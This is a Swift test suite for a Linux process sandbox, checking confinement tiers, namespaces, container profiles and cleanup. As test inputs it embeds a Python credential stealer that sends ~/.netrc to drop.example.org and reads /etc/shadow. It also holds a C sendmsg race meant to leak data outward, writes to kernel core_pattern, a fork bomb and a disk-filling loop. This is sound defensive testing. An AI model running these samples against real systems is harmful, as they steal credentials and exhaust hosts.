import CSandbox
import Evidence
import FoundationEssentials
import Glibc
import Synchronization
import TestSupport
import Testing
import Threads

@testable import Sandbox
@testable import box_probe

/// Boxes under other users and restrictions, in a process of their own.
@Suite("Box on other machines", .serialized)
struct BoxMachineTests {
  private static let stealer = """
    import os, socket, urllib.request
    data = open(os.path.expanduser("~/.netrc"), "rb").read()
    print(urllib.request.urlopen("http://drop.example.org/", data=data, timeout=5).read())
    def tries(name, action):
      try: print(name, action())
      except OSError as error: print(name, error.errno)
    def datagram(): return socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    tries("away", lambda: datagram().sendto(data, ("203.0.113.9", 31337)))
    tries("resolver", lambda: datagram().sendto(data, ("127.0.0.53", 53)))
    tries("message", lambda: datagram().sendmsg([data], [], 0, ("127.0.0.53", 53)))
    tries("listen", lambda: socket.socket().bind(("127.0.0.1", 0)))
    tries("vsock", lambda: socket.socket(40, 1))
    tries("passwords", lambda: open("/etc/shadow").read())
    tries("first", lambda: open("/proc/1/environ").read())
    """
  private static let run = ["--decoy", "/home/dev/.netrc=worthless", "--", Machine.python, "-c", stealer]

  @Test(
    "runs as an unprivileged user, and as one that no passwd file knows", .enabled(if: Machine.isRoot, Machine.noRoot),
    .enabled(if: Machine.hasSetpriv, "needs setpriv"), .enabled(if: Machine.hasNamespaces, Machine.noNamespaces),
    arguments: ["65534", "54321"])
  func unprivileged(user: String) throws {
    let wrapper = ["/usr/bin/setpriv", "--reuid", user, "--regid", user, "--clear-groups"]
    let summary = try Probe.run(behind: wrapper, ["--", "/usr/bin/id", "-u"])
    #expect(summary.tier == .namespaces)
    #expect(summary.output == "1000\n")
  }

  @Test(
    "runs inside another user namespace", .enabled(if: Machine.isRoot, Machine.noRoot),
    .enabled(if: Machine.hasSetpriv && Machine.hasUnshare, "needs setpriv and unshare"),
    .enabled(if: Machine.hasNamespaces, Machine.noNamespaces))
  func nested() throws {
    let summary = try Probe.run(behind: Probe.asNobody + ["/usr/bin/unshare", "-Ur"], ["--", "/usr/bin/id", "-u"])
    #expect(summary.tier == .namespaces)
    #expect(summary.output == "1000\n")
  }

  @Test(
    "names the setting where user namespaces are used up", .enabled(if: Machine.isRoot, Machine.noRoot),
    .enabled(if: Machine.hasSetpriv && Machine.hasUnshare, "needs setpriv and unshare"),
    .enabled(if: Machine.hasNamespaces, Machine.noNamespaces))
  func usedUp() throws {
    let script = "echo 0 > /proc/sys/user/max_user_namespaces; exec \"$@\""
    let summary = try Probe.run(
      behind: Probe.asNobody + ["/usr/bin/unshare", "-Ur", "/bin/sh", "-c", script, "sh"], ["--", "/usr/bin/true"])
    #expect(summary.step == "user-namespace")
    #expect(summary.number == ENOSPC)
    #expect(summary.error?.contains("sysctl -w user.max_user_namespaces") == true)
  }

  @Test(
    "shows the outer processes and says so where parts of /proc are covered",
    .enabled(if: Machine.isRoot, Machine.noRoot),
    .enabled(if: Machine.hasUnshare, "needs unshare"), .enabled(if: Machine.hasNamespaces, Machine.noNamespaces))
  func coveredProc() throws {
    let script = "mount -t tmpfs none /proc/bus && exec \"$@\""
    let summary = try Probe.run(
      behind: ["/usr/bin/unshare", "-m", "/bin/sh", "-c", script, "sh"],
      ["--", "/bin/sh", "-c", "cat /proc/1/environ; echo x > /proc/sys/kernel/core_pattern; id -u"])
    #expect(summary.tier == .namespaces)
    #expect(summary.warnings.contains { $0.hasPrefix("fresh-proc") })
    #expect(summary.output == "1000\n")
    #expect(summary.errors.contains("/proc/1/environ: Permission denied"))
  }

  @Test(
    "uses the weaker tier in a container's default profile where that is accepted, and nothing leaves",
    .enabled(if: Machine.hasPython, Machine.noPython),
    .enabled(if: Machine.isIntel, "the profile's numbers are x86-64's"),
    arguments: [false, true])
  func container(isNobody: Bool) throws {
    let directory = TemporaryDirectory()
    if isNobody, !Machine.isRoot || !Machine.hasSetpriv { return }
    let wrapper = (isNobody ? Probe.asNobody : []) + Probe.restricted("docker", directory)
    let summary = try Probe.run(behind: wrapper, ["--weak"] + Self.run)
    #expect(summary.tier == .confinement)
    #expect(summary.refusal?.contains("security-opt") == true)
    #expect(
      summary.output.split(separator: "\n") == [
        "b'ok'", "away \(ENETUNREACH)", "resolver \(ENETUNREACH)", "message \(EDESTADDRREQ)", "listen \(EACCES)",
        "vsock \(EAFNOSUPPORT)", "passwords \(ENOENT)", "first \(EACCES)",
      ])
    #expect(summary.exchanges.contains { $0.standingFor == "198.18.0.1" && $0.payload.hasSuffix("worthless") })
    #expect(summary.evidence.contains { $0.level == .touched })
    #expect(summary.evidence.contains { $0.level == .taintedEgress })
  }

  @Test(
    "is never weaker than the plan accepts", .enabled(if: Machine.hasPython, Machine.noPython),
    .enabled(if: Machine.isIntel, "the profile's numbers are x86-64's"))
  func noSilentDowngrade() throws {
    let directory = TemporaryDirectory()
    let summary = try Probe.run(behind: Probe.restricted("docker", directory), ["--", "/usr/bin/true"])
    #expect(summary.tier == nil)
    #expect(summary.number == EPERM)
    #expect(summary.error?.contains("accept tier B") == true)
  }

  @Test(
    "shows a private copy of a snapshot where there is no overlay", .enabled(if: Machine.hasPython, Machine.noPython),
    .enabled(if: Machine.isIntel, "the profile's numbers are x86-64's"))
  func copiedSnapshot() throws {
    let directory = TemporaryDirectory()
    let wrapper = Probe.restricted("docker", directory)
    directory.write("venv/bin/tool", Array("#!/bin/sh\necho ran \"$1\"\n".utf8), mode: 0o755)
    directory.write("venv/kept", "old\n")
    symlink("kept", directory.path + "/venv/link")
    let outer = Box.outerUser
    for name in ["", "/bin", "/bin/tool", "/kept"] { chown(directory.path + "/venv" + name, outer.user, outer.group) }
    let summary = try Probe.run(
      behind: wrapper,
      [
        "--weak", "--over", "/opt/venv=" + directory.path + "/venv", "--env", "PATH=/opt/venv/bin:/usr/bin:/bin",
        "--env", "VENV=/opt/venv", "--", "/bin/sh", "-c",
        "tool \"$1\"; cat $VENV/link; echo new > $VENV/kept; cat $VENV/link; echo x > $VENV/made; echo y > $TMPDIR/z",
        "sh",
        "--root=/opt/venv",
      ])
    #expect(summary.tier == .confinement)
    #expect(summary.errors == "")
    let lines = summary.output.split(separator: "\n")
    #expect(lines.count == 3 && lines.last == "new" && lines.dropFirst().first == "old")
    // The argument leads to where the copy lies, and what is told of it does not.
    #expect(lines.first?.hasPrefix("ran --root=/") == true && lines.first?.contains("/opt/venv") == false)
    let changed = summary.events.compactMap { if case .open(let path, true) = $0.action { path } else { nil } }
    #expect(changed == ["/opt/venv/kept", "/opt/venv/made", "/tmp/z"])
    #expect(FileStatus.text(directory.path + "/venv/kept") == "old")
    #expect(summary.created == ["/opt/venv/kept", "/opt/venv/made", "/tmp/z"])
  }

  @Test(
    "ends a program that fills its directories where no file system stops it",
    .enabled(if: Machine.hasPython, Machine.noPython),
    .enabled(if: Machine.isIntel, "the profile's numbers are x86-64's"))
  func filledBare() throws {
    let directory = TemporaryDirectory()
    let script = "i=0; while head -c 30000000 /dev/zero > ~/f$i; do i=$((i+1)); done"
    let summary = try Probe.run(
      behind: Probe.restricted("docker", directory), ["--weak", "--wall", "30000", "--", "/bin/sh", "-c", script])
    #expect(summary.exit.contains("storage"))
  }

  @Test(
    "says that it is watched already", .enabled(if: Machine.hasPython, Machine.noPython),
    .enabled(if: Machine.isIntel, "the restriction's numbers are x86-64's"),
    .enabled(if: Machine.hasNamespaces, Machine.noNamespaces))
  func watchedAlready() throws {
    let directory = TemporaryDirectory()
    let summary = try Probe.run(behind: Probe.restricted("listener", directory), ["--weak", "--", "/usr/bin/true"])
    #expect(summary.step == "listener")
    #expect(summary.number == EBUSY)
    #expect(summary.error?.contains("watched already") == true)
  }

  @Test(
    "ends what a command left behind, without namespaces too", .enabled(if: Machine.hasPython, Machine.noPython),
    .enabled(if: Machine.isIntel, "the profile's numbers are x86-64's"))
  func leftBehind() throws {
    let directory = TemporaryDirectory()
    let marker = "/tmp/left-\(getpid())"
    let summary = try Probe.run(
      behind: Probe.restricted("docker", directory),
      [
        "--weak", "--wall", "20000", "--", "/bin/sh", "-c",
        "(mkfifo ~/f; cat ~/f; : \(marker)) & (setsid cat ~/f; : \(marker)) &",
      ])
    #expect(summary.exit == "exited(0)")
    #expect(Processes.running(with: marker).isEmpty)
  }

  @Test(
    "costs a start of an interpreter little, even as built for tests; the benchmarks have the bar",
    .enabled(if: Machine.hasPython, Machine.noPython), .enabled(if: Machine.hasNamespaces, Machine.noNamespaces))
  func cost() throws {
    let text = try Probe.text(["--rounds", "9", "--", Machine.python, "-c", "pass"])
    let times = try JSONDecoder().decode([String: [Int]].self, from: Data(text.utf8))
    // The quickest of several, since a machine that does other things as well only adds.
    let plain = try #require(times["plain"]?.min())
    let boxed = try #require(times["boxed"]?.min())
    #expect(boxed < 3 * plain + 50_000, "\(boxed) µs, where \(plain) µs are plain")
  }

  @Test("keeps the supervisor small in a flood of 100,000 opens", .enabled(if: Machine.hasPython, Machine.noPython))
  func flood() throws {
    let script = """
      import os
      for i in range(100000):
        try: os.open("/nonexistent/%d" % i, os.O_RDONLY)
        except OSError: pass
      """
    let summary = try Probe.run(["--weak", "--", Machine.python, "-c", script])
    #expect(summary.exit == "exited(0)")
    #expect(summary.notifications > 100_000)
    #expect(summary.unrecorded > 70_000)
    #expect(summary.peakMemory < 200 << 10)
  }

  @Test(
    "keeps the supervisor small, and other processes quick, in a storm of forks and of threads, and ends it",
    .enabled(if: Machine.hasPython, Machine.noPython), arguments: [false, true])
  func storm(isContainer: Bool) throws {
    if isContainer, !Machine.isIntel { return }
    let directory = TemporaryDirectory()
    let marker = "storm-\(getpid())-\(isContainer)"
    let script = """
      import os, threading  # \(marker)
      def look(n):
        try: os.open("/nonexistent/%d" % n, os.O_RDONLY)
        except OSError: pass
      for n in range(5000):
        thread = threading.Thread(target=look, args=(n,)); thread.start(); thread.join()
      while True:
        try:
          if os.fork() == 0: continue
        except OSError: pass
      """
    let started = Clock.microseconds
    let isOver = Atomic(false)
    let slowest = Atomic(0)
    let watcher = DeepThread.start(stackBytes: 512 << 10) {
      // How long another process of this machine waits for its turn, at the worst.
      while !isOver.load(ordering: .relaxed) {
        let before = Clock.microseconds
        usleep(2_000)
        let late = Clock.microseconds - before - 2_000
        if late > slowest.load(ordering: .relaxed) { slowest.store(late, ordering: .relaxed) }
      }
    }
    let summary = try Probe.run(
      behind: isContainer ? Probe.restricted("docker", directory) : [],
      ["--weak", "--wall", "6000", "--", Machine.python, "-c", script])
    isOver.store(true, ordering: .relaxed)
    watcher?.join()
    #expect(!summary.exit.isEmpty)
    // Before kernel 6.12 nothing but a process namespace ends what forks faster than it is found.
    if !isContainer || csandbox_landlock_version() >= 6 { #expect(Processes.running(with: marker).isEmpty) }
    #expect(Clock.microseconds - started < 30_000_000)
    #expect(summary.peakMemory < 200 << 10)
    #expect(slowest.load(ordering: .relaxed) < 2_000_000)
  }

  @Test(
    "needs no right to mount where root of a container may have user namespaces",
    .enabled(if: Machine.isRoot, Machine.noRoot), .enabled(if: Machine.hasPython, Machine.noPython),
    .enabled(if: Machine.isIntel, "the restriction's numbers are x86-64's"),
    .enabled(if: Machine.hasNamespaces, Machine.noNamespaces))
  func containerWithoutProfile() throws {
    let directory = TemporaryDirectory()
    let secret = TemporaryDirectory()
    // Only root gets to it; the box shows what the plan says.
    secret.write("inner/shown", "shown\n")
    chmod(secret.path, 0o700)
    chmod(secret.path + "/inner", 0o755)
    let script =
      "id -u; cat ~/.netrc; cat \(secret.path)/inner/shown; id -G; grep -h CapEff /proc/self/status; "
      + "(: > /proc/sys/kernel/core_pattern) 2>/dev/null && echo wrote"
    let summary = try Probe.run(
      behind: Probe.restricted("capabilities", directory),
      [
        "--decoy", "/home/dev/.netrc=worthless", "--mount", secret.path + "/inner", "--", "/bin/sh", "-c", script,
      ])
    #expect(summary.error == nil)
    #expect(summary.tier == .namespaces)
    #expect(summary.output == "1000\nworthlessshown\n1000\nCapEff:\t0000000000000000\n")
    #expect(summary.evidence.map(\.level) == [.touched])
    #expect(summary.events.contains { if case .execute("/usr/bin/id", _) = $0.action { true } else { false } })
  }

  @Test(
    "needs no user namespace where root has the others, and is not root then",
    .enabled(if: Machine.isRoot, Machine.noRoot),
    .enabled(if: Machine.hasPython, Machine.noPython), .enabled(if: Machine.hasNamespaces, Machine.noNamespaces),
    .enabled(if: Machine.isIntel, "the restriction's numbers are x86-64's"))
  func withoutUserNamespace() throws {
    let directory = TemporaryDirectory()
    let script =
      "id -u; cat ~/.netrc; echo x > ~/new; mkdir -p ~/a/b /tmp/c; for f in core_pattern modprobe; do "
      + "(: > /proc/sys/kernel/$f) 2>/dev/null && echo wrote; done; cat /proc/1/environ; grep CapEff /proc/self/status"
    let summary = try Probe.run(
      behind: Probe.restricted("no-user-namespaces", directory),
      ["--decoy", "/home/dev/.netrc=worthless", "--", "/bin/sh", "-c", script])
    #expect(summary.tier == .namespaces)
    #expect(summary.output.hasPrefix("\(Identity.current.forBox.user & 0xFF00_0000 == 0x7000_0000 ? "18" : "")"))
    #expect(summary.output.hasSuffix("worthlessCapEff:\t0000000000000000\n"))
    #expect(summary.errors == "cat: /proc/1/environ: Permission denied\n")
    #expect(summary.evidence.map(\.level) == [.touched])
  }

  @Test(
    "brings nothing to a real server in 20,000 raced calls, though there is no network of its own",
    .enabled(if: Machine.hasPython, Machine.noPython), .enabled(if: Machine.compiler != nil, "needs a C compiler"),
    .enabled(if: Machine.isIntel, "the profile's numbers are x86-64's"))
  func racedConnections() throws {
    let directory = TemporaryDirectory()
    let wrapper = Probe.restricted("docker", directory)
    try Compiler.build(Self.raceSource, at: directory.path + "/race", in: directory)
    let server = try RealServer()
    let summary = try Probe.run(
      behind: wrapper, ["--weak", "--mount", directory.path, "--", directory.path + "/race", "\(server.port)", "10000"])
    #expect(summary.tier == .confinement)
    #expect(summary.errors == "")
    #expect(summary.exit == "exited(0)")
    #expect(summary.notifications > 20_000)
    #expect(!server.wasReached)
  }

  /// Connects and sends while another thread turns the destination between one outside and the real server, and the
  /// descriptor between two sockets.
  private static let raceSource = """
    #include <arpa/inet.h>
    #include <pthread.h>
    #include <stdlib.h>
    #include <string.h>
    #include <sys/socket.h>
    #include <unistd.h>
    static struct sockaddr_in to;
    static volatile int over;
    static uint32_t home, away;
    static void *flip(void *unused) {
      while (!over) {
        __atomic_store_n(&to.sin_addr.s_addr, away, __ATOMIC_SEQ_CST);
        for (volatile int i = 0; i < 300; i++) {}
        __atomic_store_n(&to.sin_addr.s_addr, home, __ATOMIC_SEQ_CST);
        for (volatile int i = 0; i < 300; i++) {}
      }
      return unused;
    }
    int main(int count, char **arguments) {
      if (count < 3) return 2;
      long rounds = atol(arguments[2]);
      to.sin_family = AF_INET;
      to.sin_port = htons((unsigned short)atoi(arguments[1]));
      home = htonl(INADDR_LOOPBACK);
      away = inet_addr("203.0.113.77");
      pthread_t thread;
      pthread_create(&thread, NULL, flip, NULL);
      for (long i = 0; i < rounds; i++) {
        int one = socket(AF_INET, SOCK_DGRAM, 0);
        struct iovec piece = {"leak", 4};
        struct msghdr message = {.msg_name = &to, .msg_namelen = sizeof to, .msg_iov = &piece, .msg_iovlen = 1};
        sendmsg(one, &message, 0);
        sendto(one, "leak", 4, 0, (struct sockaddr *)&to, sizeof to);
        if (i % 10 == 0) {
          int two = socket(AF_INET, SOCK_STREAM, 0);
          connect(two, (struct sockaddr *)&to, sizeof to);
          send(two, "leak", 4, MSG_NOSIGNAL);
          close(two);
        }
        close(one);
      }
      over = 1;
      pthread_join(thread, NULL);
      return 0;
    }
    """

  @Test(
    "goes with its supervisor, without namespaces too", .enabled(if: Machine.hasPython, Machine.noPython),
    .enabled(if: Machine.isIntel, "the profile's numbers are x86-64's"))
  func killedBare() throws {
    let directory = TemporaryDirectory()
    let marker = "/tmp/killed-bare-\(getpid())"
    let command = Probe.restricted("docker", directory) + [Subprocess.productsDirectory + "/box-probe"]
    let probe = try Processes.start(
      command[0],
      command.dropFirst() + [
        "--weak", "--", "/bin/sh", "-c",
        "(setsid sh -c 'mkfifo ~/f; cat ~/f; : \(marker)') & mkfifo ~/g; cat ~/g; : \(marker)",
      ])
    let family = Processes.wait(upTo: 20) {
      Processes.running(with: marker).count >= 3 ? Processes.descendants(of: probe) : nil
    }
    #expect((family?.count ?? 0) >= 3)
    kill(probe, SIGKILL)
    waitpid(probe, nil, 0)
    let isGone = Processes.wait(upTo: 10) { (family ?? []).allSatisfy { !Processes.isAlive($0) } ? true : nil }
    #expect(isGone == true)
    expectNothing(of: probe)
  }

  /// Nothing of a process lies where it puts its directories, once somebody has swept.
  private func expectNothing(of process: pid_t) {
    for base in Set(["/tmp", Leftovers.base]) {
      Leftovers.sweep(base)
      #expect(Directory.names(base, limit: 100_000).allSatisfy { !$0.hasPrefix("pratique-box-\(process)-") })
    }
  }

  @Test("goes with its supervisor, whatever ends that", arguments: [SIGKILL, SIGTERM, SIGINT, SIGHUP])
  func killed(signal: Int32) throws {
    let marker = "/tmp/killed-\(getpid())-\(signal)"
    let probe = try Processes.start(
      Subprocess.productsDirectory + "/box-probe",
      [
        "--weak", "--", "/bin/sh", "-c",
        "(setsid sh -c 'mkfifo ~/f; cat ~/f; : \(marker)') & mkfifo ~/g; cat ~/g; : \(marker)",
      ])
    // The probe itself has the marker among its arguments.
    let family = Processes.wait(upTo: 20) {
      Processes.running(with: marker).count >= 3 ? Processes.descendants(of: probe) : nil
    }
    #expect((family?.count ?? 0) >= 3)
    kill(probe, signal)
    waitpid(probe, nil, 0)
    let isGone = Processes.wait(upTo: 10) { Processes.running(with: marker).isEmpty ? true : nil }
    #expect(isGone == true)
    expectNothing(of: probe)
    let launchers = Processes.wait(upTo: 10) { (family ?? []).allSatisfy { !Processes.isAlive($0) } ? true : nil }
    #expect(launchers == true)
  }

  @Test("leaves no file, mount or control group behind, and sweeps what killed runs left")
  func leftovers() throws {
    let mounts = FileStatus.text("/proc/self/mountinfo", limit: 1 << 20)
    let stale = "\(Leftovers.base)/pratique-box-4194303-1-1"
    mkdir(stale, 0o700)
    mkdir(stale + "/inner", 0o700)
    close(open(stale + "/inner/file", O_WRONLY | O_CREAT, 0o600))
    var bytes: [CChar] = (stale + "/inner/").utf8.map { CChar(bitPattern: $0) } + [-1, -2, 0]
    close(open(&bytes, O_WRONLY | O_CREAT, 0o600))
    mkfifo(stale + "/inner/pipe", 0o600)
    var deep = open(stale, O_RDONLY | O_DIRECTORY)
    for _ in 0..<600 {
      mkdirat(deep, "d", 0o700)
      let next = openat(deep, "d", O_RDONLY | O_DIRECTORY)
      close(deep)
      deep = next
    }
    close(deep)
    chmod(stale + "/inner", 0)
    var plan = TestBox.shell("true").plan
    plan.weakestTier = .confinement
    _ = try Box.run(plan, network: ProbeNetwork())
    // In this process another box may have been the first.
    Leftovers.sweep()
    #expect(access(stale, F_OK) != 0)
    #expect(FileStatus.text("/proc/self/mountinfo", limit: 1 << 20) == mounts)
    for parent in ["/sys/fs/cgroup", "/sys/fs/cgroup/pids", "/sys/fs/cgroup/memory"] {
      #expect(Directory.names(parent, limit: 10_000).allSatisfy { !Leftovers.isStale($0) })
    }
    #expect(!Leftovers.isStale(Leftovers.name()))
    #expect(Leftovers.isStale("pratique-box-\(getpid())-1-1"))
    #expect(!Leftovers.isStale("pratique-box-x"))
  }
}
